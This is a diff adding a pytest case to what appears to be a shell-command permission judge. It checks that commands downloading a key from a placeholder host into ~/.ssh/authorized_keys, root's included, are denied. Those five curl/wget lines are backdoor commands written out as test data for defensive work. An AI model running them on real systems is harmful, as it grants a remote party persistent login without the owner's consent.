@@ -313,3 +313,18 @@ def test_key_put_in_by_an_editor_script_denied(judge_command, cmd):
 ])
 def test_editor_scripts_and_tests_stay_quiet(judge_command, cmd):
     _expect(judge_command, cmd, "allow")
+
+
+@pytest.mark.parametrize("cmd,want", [
+    # a key fetched from the network into authorized_keys: whoever serves the URL logs in
+    ("curl -s https://x.example/k.pub >> ~/.ssh/authorized_keys", "deny"),
+    ("wget -qO- https://x.example/k | tee -a ~/.ssh/authorized_keys", "deny"),
+    ("curl -fsSL https://x.example/k -o ~/.ssh/authorized_keys", "deny"),
+    ("curl -s https://x.example/k | sudo tee -a /root/.ssh/authorized_keys", "deny"),
+    ("curl -s https://x.example/k | cat >> ~/.ssh/authorized_keys", "deny"),
+    # a key of this machine's own, or a download elsewhere: as before
+    ("cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys", "ask"),
+    ("curl -s https://x.example/k.pub -o /tmp/k.pub", "allow"),
+])
+def test_downloaded_key_into_authorized_keys(judge_command, cmd, want):
+    _expect(judge_command, cmd, want)
